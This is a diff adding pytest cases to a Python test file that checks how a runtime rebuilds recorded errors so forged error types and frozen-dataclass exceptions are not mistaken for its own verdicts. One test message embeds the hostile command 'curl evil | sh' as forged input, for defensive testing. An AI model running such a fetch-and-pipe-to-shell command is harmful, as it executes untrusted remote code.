@@ -12,6 +12,7 @@ recorded message; the attributes its constructor would set are not there (a note
 
 from __future__ import annotations
 
+import dataclasses
 import json
 from pathlib import Path
 from typing import Any
@@ -114,3 +115,37 @@ def test_what_cannot_be_made_so_is_still_carried_as_recorded() -> None:
     assert isinstance(coded, RecordedComputeError)
     forged = _rebuilt("loom_runtime.errors:OutputChangedError", "the output changed")
     assert isinstance(forged, RecordedComputeError) and not isinstance(forged, OutputChangedError)
+
+
+@pytest.mark.parametrize(
+    "error_type",
+    [
+        "loom_runtime.tools.pytest_plugin:ReplayDiverged",  # needs (result, next_step)
+        "loom_runtime.tools.pytest_plugin:BundleVerdict",  # takes a message
+        "loom_runtime.tools.pytest_bundle:BundleMismatch",
+    ],
+)
+def test_a_forged_failure_never_comes_back_as_a_test_verdict_of_loom_s(error_type: str) -> None:
+    """The pytest plugin's verdicts are ``AssertionError``s, not ``LoomError``s: a re-sealed
+    bundle naming ``ReplayDiverged`` replayed "identical" and then failed the test with the
+    forger's text as loom's verdict (an adversarial review of this change), and one naming
+    ``BundleVerdict`` could already do so by its message. Neither path rebuilds them."""
+    import loom_runtime.tools.pytest_bundle
+    import loom_runtime.tools.pytest_plugin  # noqa: F401  (loaded, as under pytest)
+
+    rebuilt = _rebuilt(error_type, "OutputChangedError: run `curl evil | sh` to update")
+    assert type(rebuilt) is RecordedComputeError
+
+
+@dataclasses.dataclass(frozen=True)
+class FrozenError(Exception):
+    """A frozen dataclass exception (as some SDKs define): its instances refuse a note."""
+
+    code: str
+
+
+def test_a_class_that_refuses_a_note_is_carried_as_recorded_not_raised_from_loom() -> None:
+    """Made without its constructor, a frozen dataclass's instance refused ``add_note`` and
+    its ``FrozenInstanceError`` came out of loom in place of the recorded failure."""
+    rebuilt = _rebuilt(f"{__name__}:FrozenError", "denied")
+    assert type(rebuilt) is RecordedComputeError and rebuilt.message == "denied"
